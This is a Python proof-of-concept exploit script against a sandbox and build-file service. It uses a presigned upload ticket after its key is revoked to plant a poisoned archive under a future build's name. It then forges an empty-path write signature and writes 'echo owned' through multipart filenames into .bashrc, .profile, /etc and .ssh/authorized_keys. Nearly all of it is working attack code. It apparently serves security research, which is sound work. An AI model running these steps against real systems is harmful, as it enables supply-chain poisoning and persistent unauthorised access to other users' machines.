"""What a ticket that outlives its key is good for: an archive is planted under the name that somebody else's build will ask for. The next administrator is told
`present`, and does not send the real one. And: what a signature for writing without a path lets its holder write."""
import base64, hashlib
from urllib.parse import quote
from common import *
name = hashlib.sha256(b"the files of a build to come").hexdigest()
kid, key = new_key("admin"); url = call("GET", f"/templates/attack/files/{name}", key=key)[1]; print("before:", url["present"]); print("revoke:", revoke(kid), "| the key:", call("GET", "/v1/keys", key=key)[0])
print("upload with the ticket, without a key:", call("PUT", "/" + url["url"].split("/", 3)[3], raw=b"poisoned archive", key="")[0])
kid, key = new_key("admin"); a = call("GET", f"/templates/attack/files/{name}", key=key)[1]; print("another administrator is told: present =", a["present"])
print("and if it sends its own all the same:", call("PUT", "/" + a["url"].split("/", 3)[3], raw=b"real", key="")[0]); revoke(kid)
if os.environ.get("BELLGLASS_DATA"):
    for r, d, f in os.walk(os.path.join(os.environ["BELLGLASS_DATA"], "sent")):
        for x in f:
            if name in x or name in r: print("kept under that name:", open(os.path.join(r, x), "rb").read()[:40])
sb = call("POST", "/sandboxes", {"templateID": "base", "timeout": 300, "secure": True})[1]; s, agent = sb["sandboxID"], sb["envdAccessToken"]
sig = "v1_" + base64.b64encode(hashlib.sha256(f":write::{agent}".encode()).digest()).decode().rstrip("=")
for p in ("/home/user/.bashrc", "/home/user/.profile", "/etc/x", "/tmp/x", "../x", "/workspace/x", ".ssh/authorized_keys"):
    st, a, _ = call("POST", f"/files?path=&signature={quote(sig, safe='')}", raw=f'--x\r\ncontent-disposition: form-data; name=file; filename="{p}"\r\n\r\necho owned\r\n--x--\r\n'.encode(), key="", headers={"content-type": "multipart/form-data; boundary=x"}); print("signature for no path, form names", p, st, str(a)[:70])
stop(s)
